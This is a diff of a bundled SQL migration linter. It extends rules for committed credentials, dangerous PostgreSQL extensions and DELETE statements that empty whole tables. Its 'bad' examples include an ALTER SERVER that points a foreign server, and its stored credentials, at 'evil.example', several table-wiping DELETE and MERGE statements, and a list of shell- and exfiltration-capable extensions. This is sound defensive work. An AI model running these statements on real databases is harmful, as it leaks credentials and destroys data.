@@ -2,7 +2,7 @@ export const id = 232;
 export const ids = [232];
 export const modules = {
 
-/***/ 2401:
+/***/ 8968:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 
@@ -1045,8 +1045,10 @@ const config_credential_rule = {
         severity: 'error',
         summary: 'Password, connection string with a password, or secret token in a migration tool’s config file',
         rationale: 'alembic.ini, .env files, schema.prisma, flyway.conf, liquibase.properties, atlas.hcl, config/database.yml, knexfile, ormconfig, ' +
-            'drizzle.config, appsettings.json and Spring application.* files sit next to the migrations and often get a real database URL ' +
-            'or password committed by mistake. Environment references (`env("DATABASE_URL")`, `${DB_PASSWORD}`, `<%= ENV[...] %>`, ' +
+            'drizzle.config, appsettings.json and Spring application.* files, sqitch.conf, sql-migrate dbconfig.yml, Sequelize config/config.json, ' +
+            '.pgpass, my.cnf and docker-compose.yml files sit next to the migrations and often get a real database URL ' +
+            'or password committed by mistake. A URL assembled by ini interpolation (`postgresql://app:%(db_pw)s@db/app` in alembic.ini) ' +
+            'is read as ConfigParser reads it: the password is reported where `db_pw` is set. Environment references (`env("DATABASE_URL")`, `${DB_PASSWORD}`, `<%= ENV[...] %>`, ' +
             '`%(here)s`) are not reported; a hardcoded default in `${DB_PASSWORD:default}` is. Values in example/template files are ' +
             'reported as warnings unless they match a real token format.',
         fix: 'Remove the value, rotate the credential, and read it from the environment (`env("DATABASE_URL")`, `${DB_PASSWORD}`) or a secret manager.',
@@ -1064,6 +1066,12 @@ const config_credential_rule = {
                 { sql: 'services:\n  db:\n    image: postgres:16\n    environment:\n      POSTGRES_PASSWORD: Sup3r-Secret\n', path: 'docker-compose.yml' },
                 { sql: 'services:\n  db:\n    image: mysql:8\n    environment:\n      - MYSQL_ROOT_PASSWORD=Sup3r-Secret\n', path: 'deploy/compose.prod.yaml' },
                 { sql: 'services:\n  app:\n    environment:\n      DATABASE_URL: postgres://app:Sup3r-Secret@db.prod.internal/app\n', path: 'docker-compose.yml' },
+                { sql: '[alembic]\nscript_location = alembic\ndb_pw = Sup3r-Secret\nsqlalchemy.url = postgresql://app:%(db_pw)s@db/app\n', path: 'alembic.ini' },
+                { sql: '[core]\n\tengine = pg\n[target "prod"]\n\turi = db:pg://app:Sup3r-Secret@db/app\n', path: 'sqitch.conf' },
+                { sql: 'production:\n  dialect: postgres\n  datasource: host=db dbname=app user=app password=Sup3r-Secret sslmode=disable\n', path: 'dbconfig.yml' },
+                { sql: '{ "production": { "username": "app", "password": "Sup3r-Secret", "database": "app", "dialect": "postgres" } }\n', path: 'config/config.json' },
+                { sql: 'db.prod:5432:app:app:Sup3r-Secret\n', path: '.pgpass' },
+                { sql: '[client]\nuser=app\npassword=Sup3r-Secret\n', path: '.my.cnf' },
             ],
             good: [
                 { sql: '[alembic]\nsqlalchemy.url = driver://user:pass@localhost/dbname\n', path: 'alembic.ini' },
@@ -1075,6 +1083,9 @@ const config_credential_rule = {
                 { sql: "module.exports = { client: 'pg', connection: process.env.DATABASE_URL };\n", path: 'knexfile.js' },
                 { sql: 'services:\n  db:\n    environment:\n      POSTGRES_PASSWORD: ${POSTGRES_PASSWORD}\n  app:\n    environment:\n      - DATABASE_URL=${DATABASE_URL}\n', path: 'docker-compose.yml' },
                 { sql: 'PASSWORD_MIN_LENGTH=12\nREQUIRE_PASSWORD=true\n', path: '.env' },
+                { sql: '[alembic]\nscript_location = %(here)s/alembic\nsqlalchemy.url = postgresql://app:%(db_pw)s@db/app\n', path: 'alembic.ini' },
+                { sql: '[core]\n\tengine = pg\n[target "prod"]\n\turi = db:pg://app@db/app\n', path: 'sqitch.conf' },
+                { sql: '# no passwords here\n', path: '.pgpass' },
             ],
         },
     },
@@ -1611,6 +1622,12 @@ const DANGEROUS_EXTENSIONS = {
     multicorn2: 'foreign data wrappers written in Python (runs Python in the server)',
     aws_s3: 'imports from and exports to S3 buckets',
     aws_lambda: 'invokes AWS Lambda functions from SQL',
+    azure_storage: 'reads from and writes to Azure Blob Storage from SQL',
+    pg_background: 'runs SQL in background workers, outside the migration\'s transaction and its review (pg_background_launch)',
+    pg_tle: 'installs further extensions from SQL strings at run time (Trusted Language Extensions), none of them reviewed here',
+    pljava: 'runs Java code in the database server',
+    plsh: 'runs shell scripts on the database server',
+    pg_dbms_job: 'runs SQL as background jobs, outside the review of migrations',
 };
 function dangerousExtension(name) {
     const n = name.toLowerCase();
@@ -1635,14 +1652,16 @@ const dangerous_extension_rule = {
         summary: 'Installs an extension or foreign-data setup that reaches outside the database (dblink, *_fdw, adminpack, http, pg_net, pg_cron, …)',
         rationale: 'Flagged extensions: dblink, postgres_fdw and every *_fdw, file_fdw (server files and programs), adminpack (writes server files), ' +
             'http / pg_net (HTTP from the server: SSRF, exfiltration), pg_cron (scheduled SQL nobody reviews), pageinspect / pg_walinspect ' +
-            '(raw pages and WAL, around privileges and RLS), multicorn (Python), aws_s3 / aws_lambda. Untrusted languages (plpython3u, …) are ' +
+            '(raw pages and WAL, around privileges and RLS), multicorn (Python), aws_s3 / aws_lambda / azure_storage, pg_background and pg_dbms_job ' +
+            '(SQL run in background workers), pg_tle (extensions installed from strings), pljava and plsh (Java, shell). Untrusted languages (plpython3u, …) are ' +
             'reported by untrusted-language; lo and ordinary extensions (pgcrypto, uuid-ossp, citext, pg_trgm, postgis) are not flagged. ' +
-            'CREATE SERVER and CREATE FOREIGN DATA WRAPPER are reported too (the database will connect out or run a handler); CREATE USER MAPPING ' +
+            'CREATE SERVER, ALTER SERVER … OPTIONS (host, port, dbname, filename, program) and CREATE FOREIGN DATA WRAPPER are reported too (the database will connect out or run a handler); CREATE USER MAPPING ' +
             'as a warning (it lets a local role use stored remote credentials).',
         fix: 'Install such extensions through reviewed server provisioning rather than a migration, or get the installation approved by a security reviewer.',
         examples: {
             bad: [
                 { sql: 'CREATE EXTENSION IF NOT EXISTS dblink WITH SCHEMA extensions;' },
+                { sql: "ALTER SERVER reporting OPTIONS (SET host 'evil.example');" },
                 { sql: 'CREATE EXTENSION postgres_fdw;' },
                 { sql: 'CREATE EXTENSION mysql_fdw;' },
                 { sql: "CREATE SERVER remote FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'db.example.com', dbname 'prod');" },
@@ -1656,7 +1675,7 @@ const dangerous_extension_rule = {
             ],
         },
     },
-    kinds: ['CreateExtensionStmt', 'CreateFdwStmt', 'CreateForeignServerStmt', 'CreateUserMappingStmt'],
+    kinds: ['CreateExtensionStmt', 'CreateFdwStmt', 'CreateForeignServerStmt', 'AlterForeignServerStmt', 'CreateUserMappingStmt'],
     check(stmt, { report }) {
         const e = (0,sql_ast/* pgNode */.sp)(stmt, 'CreateExtensionStmt');
         if (e && !isUntrustedLanguage(e.extname ?? '')) {
@@ -1671,6 +1690,15 @@ const dangerous_extension_rule = {
             const where = ['host', 'hostaddr', 'port', 'dbname'].filter((k) => o[k]).map((k) => `${k} '${o[k]}'`).join(', ');
             const fileish = o.filename || o.program ? ' (file access)' : '';
             report({ message: `Creates foreign server ${s.servername} using ${s.fdwname}${where ? ` (${where})` : ''}${fileish}: the database can connect out to it${(0,sql_ast/* inside */.nx)(stmt)}.` });
+        }
+        // ALTER SERVER … OPTIONS (SET host …): every foreign table and user mapping of the server now
+        // connects (and sends its stored credentials) to the new place.
+        const as = (0,sql_ast/* pgNode */.sp)(stmt, 'AlterForeignServerStmt');
+        if (as) {
+            const o = opts(as.options);
+            const moved = ['host', 'hostaddr', 'port', 'dbname', 'filename', 'program'].filter((k) => o[k] !== undefined);
+            if (moved.length)
+                report({ message: `Points foreign server ${as.servername} elsewhere (${moved.map((k) => `${k} '${o[k]}'`).join(', ')}): its foreign tables, and the credentials of its user mappings, now go there${(0,sql_ast/* inside */.nx)(stmt)}.` });
         }
         const w = (0,sql_ast/* pgNode */.sp)(stmt, 'CreateFdwStmt');
         if (w) {
@@ -1817,23 +1845,298 @@ const default_privileges_rule = {
 };
 /* harmony default export */ const default_privileges = (withDynamic(default_privileges_rule));
 
-;// CONCATENATED MODULE: ./rules/delete-without-where.ts
+;// CONCATENATED MODULE: ./src/sql/rows.ts
 
-/** Every DeleteStmt in the tree (also in CTEs and rule actions), not inside function bodies (parsed separately). */
-function deletes(stmt) {
-    const out = [];
-    if (stmt.pg?.DeleteStmt)
-        out.push(stmt.pg.DeleteStmt);
-    if (!(0,sql_ast/* hasNode */.j4)(stmt.pg, 'DeleteStmt'))
-        return out;
-    (0,sql_ast/* walk */.GG)(stmt.pg, (k, v) => {
-        if (k === 'sql_body' || k === 'CreateFunctionStmt')
-            return false;
-        if (k === 'DeleteStmt' && v !== stmt.pg?.DeleteStmt)
-            out.push(v);
+/** Same table: same name, and the same schema where both say one (an unqualified name is taken to be it: fail closed). */
+function sameRelation(a, b) {
+    if (!a?.relname || a.relname !== b?.relname)
+        return false;
+    return !a.schemaname || !b.schemaname || a.schemaname === b.schemaname;
+}
+const targetName = (r) => r.alias?.aliasname ?? r.relname ?? '';
+/**
+ * A SELECT that returns every row of `target` (one FROM item, the target; no filter that can drop a
+ * row, no LIMIT, GROUP BY, HAVING, DISTINCT ON or set operation): the target's columns it outputs
+ * under their own names, '*' for all of them; undefined when it is not such a SELECT.
+ */
+function everyRowOf(sel, target) {
+    if (!sel || (sel.op && sel.op !== 'SETOP_NONE') || sel.valuesLists || sel.withClause || sel.intoClause)
+        return undefined;
+    if (sel.limitCount || sel.limitOffset || sel.havingClause || sel.groupClause?.length)
+        return undefined;
+    // Plain DISTINCT keeps every value; DISTINCT ON (…) keeps one row per group.
+    if ((sel.distinctClause ?? []).some((d) => d && Object.keys(d).length))
+        return undefined;
+    if (sel.fromClause?.length !== 1)
+        return undefined;
+    const from = sel.fromClause[0]?.RangeVar;
+    if (!from || !sameRelation(from, target))
+        return undefined;
+    if (sel.whereClause && !(0,sql_ast/* alwaysTrue */.MH)(sel.whereClause) && !(0,sql_ast/* rowIndependent */.V7)(sel.whereClause, from))
+        return undefined;
+    const columns = new Set();
+    for (const t of sel.targetList ?? []) {
+        const rt = t?.ResTarget;
+        const f = rt?.val?.ColumnRef?.fields;
+        if (!f?.length)
+            continue;
+        if (f[f.length - 1]?.A_Star)
+            return { from, columns: '*' };
+        const col = f[f.length - 1]?.String?.sval;
+        if (col && (!rt.name || rt.name === col))
+            columns.add(col);
+    }
+    return { from, columns };
+}
+/** A FROM/USING item that is a copy of the target holding every row. */
+function selfCopy(item, target) {
+    const r = item?.RangeVar;
+    if (r)
+        return sameRelation(r, target) ? { name: targetName(r), columns: '*' } : undefined;
+    const sub = item?.RangeSubselect;
+    // Column aliases (`AS s(a, b)`) rename the outputs: not followed.
+    if (!sub?.alias?.aliasname || sub.alias.colnames?.length || sub.lateral)
+        return undefined;
+    const every = everyRowOf(sub.subquery?.SelectStmt, target);
+    return every && { name: sub.alias.aliasname, columns: every.columns };
+}
+function conjuncts(e) {
+    return e?.BoolExpr?.boolop === 'AND_EXPR' ? (e.BoolExpr.args ?? []).flatMap(conjuncts) : [e];
+}
+/** A column reference (casts looked through): its qualifier (undefined when bare) and column. */
+function columnRef(n) {
+    while (n?.TypeCast)
+        n = n.TypeCast.arg;
+    const f = n?.ColumnRef?.fields;
+    if (!f?.length || f.length > 3)
+        return undefined;
+    const parts = f.map((x) => x?.String?.sval);
+    if (parts.some((p) => typeof p !== 'string'))
+        return undefined;
+    return { qual: parts.length > 1 ? parts[parts.length - 2] : undefined, col: parts[parts.length - 1] };
+}
+/** `a = b` or `a IS NOT DISTINCT FROM b`: its two sides. */
+function equality(e) {
+    const a = e?.A_Expr;
+    if (!a)
+        return undefined;
+    const op = a.name?.length === 1 ? a.name[0]?.String?.sval : undefined;
+    if ((a.kind === 'AEXPR_OP' && op === '=') || a.kind === 'AEXPR_NOT_DISTINCT')
+        return [a.lexpr, a.rexpr];
+    return undefined;
+}
+/** Does a condition name any of these qualifiers (or, when `bare`, an unqualified column)? */
+function names(e, quals, bare) {
+    let found = false;
+    const visit = (n) => {
+        if (found || !n || typeof n !== 'object')
+            return;
+        if (Array.isArray(n))
+            return n.forEach(visit);
+        const f = n.ColumnRef?.fields;
+        if (f) {
+            const parts = f.map((x) => x?.String?.sval ?? '*');
+            if (parts.length < 2 ? bare : quals.has(parts[parts.length - 2]))
+                found = true;
+            return;
+        }
+        for (const k in n)
+            visit(n[k]);
+    };
+    visit(e);
+    return found;
+}
+/**
+ * Does `cond` hold for every row of `target` by matching it with copies of itself? Every conjunct is
+ * a self-match (`t.c = s.c` with s a copy showing c; `c IN (SELECT c FROM t)`; `EXISTS (SELECT … FROM
+ * t v WHERE v.c = t.c)`) or names neither the target nor a copy and holds for every row or none; at
+ * least one is a self-match. `bare`: what an unqualified column means here ('target', or 'none' where
+ * it would be ambiguous and is taken as selecting). Returns the matched column.
+ */
+function selfMatched(cond, target, copies, bare) {
+    const tname = targetName(target);
+    const copyNames = new Set(copies.map((c) => c.name));
+    const isTarget = (r) => !!r && (r.qual === undefined ? bare === 'target' : r.qual === tname && !copyNames.has(tname));
+    const copyOf = (r) => r && copies.find((c) => (r.qual === undefined ? bare === 'copy' : r.qual === c.name) && (c.columns === '*' || c.columns.has(r.col)));
+    let matched;
+    for (const c of conjuncts(cond)) {
+        const eq = equality(c);
+        if (eq) {
+            const [l, r] = eq.map(columnRef);
+            if (l && r && l.col === r.col && ((isTarget(l) && copyOf(r)) || (isTarget(r) && copyOf(l)))) {
+                matched ??= l.col;
+                continue;
+            }
+        }
+        const inner = subMatch(c, target, bare === 'target');
+        if (inner) {
+            matched ??= inner;
+            continue;
+        }
+        if ((0,sql_ast/* alwaysTrue */.MH)(c))
+            continue;
+        const quals = new Set([tname, ...copyNames]);
+        if (!names(c, quals, true) && (0,sql_ast/* rowIndependent */.V7)(c, target))
+            continue;
+        return undefined;
+    }
+    return matched;
+}
+/** `c IN (SELECT c FROM t)` / `c = ANY (…)` / `EXISTS (SELECT … FROM t v WHERE v.c = t.c)` on the target's own rows. */
+function subMatch(e, target, bareIsTarget) {
+    const s = e?.SubLink;
+    const sel = s?.subselect?.SelectStmt;
+    if (!s || !sel)
+        return undefined;
+    if (s.subLinkType === 'ANY_SUBLINK') {
+        const op = s.operName?.length ? s.operName.map((x) => x?.String?.sval).join('.') : '=';
+        const t = columnRef(s.testexpr);
+        const tname = targetName(target);
+        if (op !== '=' || !t || !(t.qual === undefined ? bareIsTarget : t.qual === tname) || sel.targetList?.length !== 1)
+            return undefined;
+        const every = everyRowOf(sel, target);
+        const out = columnRef(sel.targetList[0]?.ResTarget?.val);
+        if (!every || !out || out.col !== t.col || sel.targetList[0].ResTarget.name)
+            return undefined;
+        return t.col;
+    }
+    if (s.subLinkType === 'EXISTS_SUBLINK') {
+        // The subquery's own filter is allowed to be the correlation: strip it and ask for every row.
+        const every = everyRowOf({ ...sel, whereClause: undefined }, target);
+        if (!every)
+            return undefined;
+        const copy = { name: targetName(every.from), columns: '*' };
+        // The copy must not hide the target's name (`FROM t` inside `DELETE FROM t`: t.c is the copy's).
+        if (copy.name === targetName(target))
+            return undefined;
+        return sel.whereClause ? selfMatched(sel.whereClause, target, [copy], 'copy') : undefined;
+    }
+    return undefined;
+}
+/** DELETE … USING / UPDATE … FROM whose WHERE pairs the target only with copies of itself: the matched column. */
+function selfJoinEveryRow(where, relation, joined) {
+    const target = relation?.RangeVar ?? relation;
+    if (!where || !target?.relname)
+        return undefined;
+    // Other joined tables are like any source: a conjunct that pairs them with the target selects
+    // (it names the target), one on them alone holds for every row or none.
+    const copies = (joined ?? []).map((j) => selfCopy(j, target)).filter((c) => !!c);
+    return selfMatched(where, target, copies, (joined ?? []).length ? 'none' : 'target');
+}
+/** MERGE whose source is a copy of the target joined on a self-match: the matched column. */
+function mergeSelfMatch(merge) {
+    const target = merge?.relation?.RangeVar ?? merge?.relation;
+    const copy = target && selfCopy(merge.sourceRelation, target);
+    return copy && merge.joinCondition ? selfMatched(merge.joinCondition, target, [copy], 'none') : undefined;
+}
+/**
+ * INSERT … SELECT from the target itself, every row, copying the conflict columns unchanged
+ * (`INSERT INTO t (id, x) SELECT id, 'v' FROM t ON CONFLICT (id) DO UPDATE SET …`): every row
+ * conflicts with itself. The columns copied unchanged, or undefined.
+ */
+function upsertFromItself(ins) {
+    const target = ins?.relation?.RangeVar ?? ins?.relation;
+    const sel = ins?.selectStmt?.SelectStmt;
+    const every = target?.relname ? everyRowOf(sel, target) : undefined;
+    if (!every)
+        return undefined;
+    const same = new Set();
+    const cols = ins.cols ?? [];
+    const list = sel.targetList ?? [];
+    if (!cols.length) {
+        // No column list: `SELECT *` copies every column onto itself; an explicit list needs the table's order (not known here).
+        if (every.columns === '*' && list.length === 1)
+            return new Set(['*']);
+        return undefined;
+    }
+    if (list.length !== cols.length)
+        return undefined;
+    cols.forEach((c, i) => {
+        const name = c?.ResTarget?.name;
+        const v = columnRef(list[i]?.ResTarget?.val);
+        if (name && v && v.col === name && (v.qual === undefined || v.qual === targetName(every.from)) && !c.ResTarget.indirection?.length)
+            same.add(name);
     });
+    if (!same.size)
+        return undefined;
+    const conflict = ins.onConflictClause;
+    const keys = (conflict?.infer?.indexElems ?? []).map((e) => e?.IndexElem?.name).filter(Boolean);
+    // ON CONFLICT ON CONSTRAINT c: which columns c covers is not known here; a copied column may be its key.
+    if (keys.length && !keys.every((k) => same.has(k)))
+        return undefined;
+    return same;
+}
+/**
+ * MERGE actions of one command type (`CMD_DELETE`, `CMD_UPDATE`) that reach every row of the target
+ * (PostgreSQL 15+; `WHEN NOT MATCHED BY SOURCE` 17+): a WHEN MATCHED action whose join condition and
+ * own condition select no row of the target by its columns (`ON true`, `ON s.x = 1`), and a WHEN NOT
+ * MATCHED BY SOURCE action without such a condition (every target row the source lacks: all of them
+ * when the source is empty), and a WHEN MATCHED action whose source is the target's own rows joined
+ * on a self-match (mergeSelfMatch). Walks the statement's tree (CTEs too), not function bodies.
+ */
+function mergeActionsOnEveryRow(stmt, command) {
+    const merges = (0,sql_ast/* nodesOf */.Nh)(stmt, 'MergeStmt');
+    const selects = (cond, rel) => !!cond && !(0,sql_ast/* alwaysTrue */.MH)(cond) && (0,sql_ast/* mentionsTarget */.jy)(cond, rel);
+    const out = [];
+    for (const m of merges) {
+        for (const c of m.mergeWhenClauses ?? []) {
+            const w = c?.MergeWhenClause;
+            if (w?.commandType !== command || selects(w.condition, m.relation))
+                continue;
+            if (w.matchKind === 'MERGE_WHEN_NOT_MATCHED_BY_SOURCE')
+                out.push({ merge: m, clause: w, how: 'MERGE … WHEN NOT MATCHED BY SOURCE without a condition on the target: every row the source does not match, all of them when the source is empty' });
+            else if (w.matchKind === 'MERGE_WHEN_MATCHED' && !selects(m.joinCondition, m.relation))
+                out.push({ merge: m, clause: w, how: 'MERGE … WHEN MATCHED whose join condition does not select rows of the target by its columns' });
+            else if (w.matchKind === 'MERGE_WHEN_MATCHED') {
+                const col = mergeSelfMatch(m);
+                if (col)
+                    out.push({ merge: m, clause: w, how: `MERGE … USING the table's own rows ON ${col} = ${col}: every row whose ${col} is not NULL matches itself` });
+            }
+        }
+    }
     return out;
 }
+// ---- node-sql-parser (MySQL, MariaDB, SQLite) ----
+const lower = (x) => (typeof x === 'string' ? x.toLowerCase() : '');
+/**
+ * INSERT/REPLACE … SELECT from the target itself, every row (a WHERE that holds for every row or none
+ * at most), copying some columns onto themselves: with ON DUPLICATE KEY UPDATE / ON CONFLICT DO UPDATE
+ * / REPLACE / INSERT OR REPLACE, every row whose key it copies conflicts with itself. The columns copied
+ * unchanged (lower-cased; '*' for SELECT *), or undefined.
+ */
+function upsertFromItselfNsp(a) {
+    const target = Array.isArray(a?.table) ? a.table[0] : a?.table;
+    const sel = a?.values?.type === 'select' ? a.values : a?.select ?? (a?.values?.value?.type === 'select' ? a.values.value : undefined);
+    if (!target || !sel || sel.type !== 'select')
+        return undefined;
+    if (sel._next || sel.limit?.value?.length || sel.groupby || sel.having || (sel.from ?? []).length !== 1)
+        return undefined;
+    const from = sel.from[0];
+    if (from?.expr || from?.join || lower(from?.table) !== lower(target.table) || (from.db && target.db && lower(from.db) !== lower(target.db)))
+        return undefined;
+    if (sel.where && !(0,sql_ast/* alwaysTrueNsp */.rD)(sel.where) && !(0,sql_ast/* rowIndependentNsp */.aM)(sel.where, [from]))
+        return undefined;
+    const cols = (a.columns ?? []).map((c) => lower((0,sql_ast/* nspColumn */.kb)(c)));
+    const list = sel.columns === '*' ? [] : sel.columns ?? [];
+    const star = sel.columns === '*' || (list.length === 1 && list[0]?.expr?.type === 'column_ref' && (0,sql_ast/* nspColumn */.kb)(list[0].expr) === '*');
+    if (!cols.length)
+        return star ? new Set(['*']) : undefined;
+    if (star || list.length !== cols.length)
+        return undefined;
+    const names = new Set([lower(from.as), lower(from.table)].filter(Boolean));
+    const same = new Set();
+    cols.forEach((c, i) => {
+        const e = list[i]?.expr;
+        if (e?.type === 'column_ref' && lower((0,sql_ast/* nspColumn */.kb)(e)) === c && (!e.table || names.has(lower(e.table))) && (!list[i].as || lower(list[i].as) === c))
+            same.add(c);
+    });
+    return same.size ? same : undefined;
+}
+
+;// CONCATENATED MODULE: ./rules/delete-without-where.ts
+
+
+
 const delete_without_where_rule = {
     meta: {
         id: 'delete-without-where',
@@ -1843,6 +2146,10 @@ const delete_without_where_rule = {
         rationale: 'A DELETE with no WHERE, or with a condition that is always true (`WHERE true`, `WHERE 1=1`, `… OR 1=1`; `id > 0 OR id <= 0` holds for every non-NULL id), removes every row of the table; ' +
             '`DELETE … USING other` without WHERE deletes every row that joins, i.e. all of them. A condition that names none of the table\'s columns ' +
             '(`WHERE EXISTS (SELECT 1 FROM other)`, `WHERE now() > …`; in MySQL and SQLite a join condition too) holds for every row or for none: when it holds, every row goes. ' +
+            'A row always matches itself: a condition that pairs the table only with its own rows (`DELETE FROM t u USING t v WHERE u.id = v.id`, ' +
+            '`WHERE id IN (SELECT id FROM t)`, `EXISTS (SELECT 1 FROM t v WHERE v.id = t.id)`, `MERGE INTO t USING t s ON t.id = s.id`) selects every row whose ' +
+            'column is not NULL. A variable of the enclosing function or DO block (`WHERE everything`) has one value per statement, like a constant. ' +
+            'SQLite FTS5\'s `INSERT INTO t(t) VALUES(\'delete-all\')` empties the table. ' +
             'In a function or DO block it runs whenever that code runs. ' +
             'Rows of a table created earlier in the same file were written by this migration (info).',
         fix: 'Add the WHERE clause that selects the rows to delete; if emptying the table is really intended, say so and get it approved.',
@@ -1882,6 +2189,12 @@ const delete_without_where_rule = {
                 { sql: 'SET @all = 1; DELETE FROM sessions WHERE @all = 1', dialect: 'mysql' },
                 { sql: 'PREPARE wipe(boolean) AS DELETE FROM sessions WHERE $1;' },
                 { sql: "DO $$ BEGIN EXECUTE 'DELETE FROM sessions WHERE $1' USING true; END $$;" },
+                { sql: 'DELETE FROM users u USING users v WHERE u.id = v.id;' },
+                { sql: 'DELETE FROM users WHERE id IN (SELECT id FROM users);' },
+                { sql: 'DELETE FROM users u WHERE EXISTS (SELECT 1 FROM users v WHERE v.id = u.id);' },
+                { sql: 'MERGE INTO users u USING users s ON u.id = s.id WHEN MATCHED THEN DELETE;' },
+                { sql: 'DO $$ DECLARE everything boolean := true; BEGIN DELETE FROM audit_log WHERE everything; END $$;' },
+                { sql: "CREATE VIRTUAL TABLE docs USING fts5(body);\nINSERT INTO docs(docs) VALUES('delete-all');", dialect: 'sqlite' },
             ],
             good: [
                 { sql: 'DELETE FROM sessions WHERE expires_at < now();' },
@@ -1903,6 +2216,12 @@ const delete_without_where_rule = {
                 { sql: 'DELETE FROM sessions WHERE EXISTS (SELECT 1 FROM users WHERE users.id = sessions.user_id)', dialect: 'mariadb' },
                 { sql: 'MERGE INTO sessions s USING expired e ON s.id = e.id WHEN MATCHED THEN DELETE;' },
                 { sql: "MERGE INTO sessions s USING keep k ON s.id = k.id WHEN NOT MATCHED BY SOURCE AND s.created_at < now() - interval '30 days' THEN DELETE;" },
+                { sql: 'DELETE FROM users u USING users v WHERE u.email = v.email AND u.id < v.id;' },
+                { sql: "DELETE FROM users WHERE id IN (SELECT id FROM users WHERE role = 'guest');" },
+                { sql: 'DELETE FROM users WHERE id IN (SELECT manager_id FROM users);' },
+                { sql: 'DELETE FROM users u WHERE EXISTS (SELECT 1 FROM users v WHERE v.id = u.manager_id);' },
+                { sql: 'DO $$ DECLARE uid bigint := 3; BEGIN DELETE FROM audit_log WHERE id = uid; END $$;' },
+                { sql: "CREATE VIRTUAL TABLE docs USING fts5(body);\nINSERT INTO docs(docs) VALUES('rebuild');", dialect: 'sqlite' },
             ],
         },
     },
@@ -1915,16 +2234,23 @@ const delete_without_where_rule = {
             }
             report({ message: `Deletes every row of ${table} (${how})${where}.`, offset, key: table });
         };
-        for (const d of deletes(stmt)) {
+        for (const d of (0,sql_ast/* nodesOf */.Nh)(stmt, 'DeleteStmt')) {
             if (d.whereClause && !(0,sql_ast/* alwaysTrue */.MH)(d.whereClause)) {
+                const table = (0,sql_ast/* rangeVarName */.KW)(d.relation);
+                // In a function or DO body, a bare name may be a variable: one value for the whole statement.
+                const isVar = (0,sql_ast/* bodyVariable */.Ne)(stmt, table, (t) => (0,src_state/* stateOf */.L4)(stmt)?.columns(stmt, t));
+                const offset = (0,sql_ast/* nodeOffset */.Yw)(stmt, d.relation?.location);
+                let col;
                 // DELETE … USING other WHERE <condition on other only>: no row of the target is selected
                 // by the condition, so every row goes when the condition holds once.
-                if ((d.usingClause ?? []).length && !(0,sql_ast/* mentionsTarget */.jy)(d.whereClause, d.relation)) {
-                    const table = (0,sql_ast/* rangeVarName */.KW)(d.relation);
-                    emit(table, 'USING join without a condition on the target table: the WHERE clause does not mention it', (0,sql_ast/* nodeOffset */.Yw)(stmt, d.relation?.location));
+                if ((d.usingClause ?? []).length && !(0,sql_ast/* mentionsTarget */.jy)(d.whereClause, d.relation, isVar)) {
+                    emit(table, 'USING join without a condition on the target table: the WHERE clause does not mention it', offset);
                 }
-                else if ((0,sql_ast/* rowIndependent */.V7)(d.whereClause, d.relation)) {
-                    emit((0,sql_ast/* rangeVarName */.KW)(d.relation), 'the WHERE clause names none of its columns: it holds for every row or for none', (0,sql_ast/* nodeOffset */.Yw)(stmt, d.relation?.location));
+                else if ((0,sql_ast/* rowIndependent */.V7)(d.whereClause, d.relation, isVar)) {
+                    emit(table, 'the WHERE clause names none of its columns: it holds for every row or for none', offset);
+                }
+                else if ((col = selfJoinEveryRow(d.whereClause, d.relation, d.usingClause))) {
+                    emit(table, `the WHERE clause matches each row with the table's own rows on ${col}: every row whose ${col} is not NULL matches itself`, offset);
                 }
                 continue;
             }
@@ -1932,9 +2258,17 @@ const delete_without_where_rule = {
             const using = (d.usingClause ?? []).length ? ', USING join without a condition' : '';
             emit(table, (d.whereClause ? 'WHERE clause is always true' : 'no WHERE clause') + using, d === stmt.pg?.DeleteStmt && /^\s*(with|delete)\b/i.test(stmt.text) ? undefined : (0,sql_ast/* nodeOffset */.Yw)(stmt, d.relation?.location));
         }
-        for (const { merge, how } of (0,sql_ast/* mergeActionsOnEveryRow */.ss)(stmt, 'CMD_DELETE'))
+        for (const { merge, how } of mergeActionsOnEveryRow(stmt, 'CMD_DELETE'))
             emit((0,sql_ast/* rangeVarName */.KW)(merge.relation), how, (0,sql_ast/* nodeOffset */.Yw)(stmt, merge.relation?.location));
         const a = stmt.ast;
+        // SQLite FTS5: an INSERT into the column named like the table is a command; 'delete-all' removes
+        // every row of a contentless or external-content table (https://sqlite.org/fts5.html, "Special INSERT Commands").
+        if (a?.type === 'insert' && a.columns?.length === 1 && stmt.unit.dialect === 'sqlite') {
+            const table = (0,sql_ast/* nspTable */.Uw)(a.table?.[0]);
+            const values = a.values?.values ?? [];
+            if (String((0,sql_ast/* nspColumn */.kb)(a.columns[0])).toLowerCase() === table.split('.').pop().toLowerCase() && values.some((v) => /^delete-all$/i.test(String(v?.value?.[0]?.value ?? ''))))
+                emit(table, "FTS5 'delete-all' command");
+        }
         if (a?.type === 'delete') {
             const refs = a.table?.length ? a.table : a.from ?? [];
             // The WHERE and a multi-table DELETE's join conditions select the rows; the ones that are not always true.
@@ -1981,12 +2315,12 @@ function dmlTarget(s) {
 function reEnables(s, table) {
     const a = s.pg?.AlterTableStmt;
     if (a && (0,sql_ast/* sameName */.q)((0,sql_ast/* rangeVarName */.KW)(a.relation), table))
-        return (a.cmds ?? []).some((c) => /^AT_EnableTrig(All|User)?$|^AT_Enable/.test(c?.AlterTableCmd?.subtype ?? ''));
+        return (a.cmds ?? []).some((c) => /^AT_Enable(?!Replica)/.test(c?.AlterTableCmd?.subtype ?? ''));
     return !s.parsed && /\benable\s+trigger\b/.test(s.lexical) && s.lexical.includes(table.toLowerCase().split('.').pop());
 }
 const enablesTriggers = (s) => {
     const a = s.pg?.AlterTableStmt;
-    return a && (a.cmds ?? []).some((c) => /^AT_EnableTrig(All|User)?$|^AT_Enable/.test(c?.AlterTableCmd?.subtype ?? '')) ? [(0,sql_ast/* rangeVarName */.KW)(a.relation)] : undefined;
+    return a && (a.cmds ?? []).some((c) => /^AT_Enable(?!Replica)/.test(c?.AlterTableCmd?.subtype ?? '')) ? [(0,sql_ast/* rangeVarName */.KW)(a.relation)] : undefined;
 };
 const writesRows = (s) => {
     const t = dmlTarget(s);
@@ -2012,6 +2346,52 @@ function laterInFile(stmt, table) {
     const dml = writes.positions.slice((0,sql_ast/* firstAbove */.Y4)(writes.positions, at), (0,sql_ast/* firstAbove */.Y4)(writes.positions, end - 1)).map((p) => all[p]);
     return { enabled: end !== Infinity, dml };
 }
+/** MySQL/MariaDB `SET [SESSION|@@…]foreign_key_checks = 0|OFF`, SQLite `PRAGMA foreign_keys = OFF`: 'off', 'on' or undefined. */
+function fkChecks(s) {
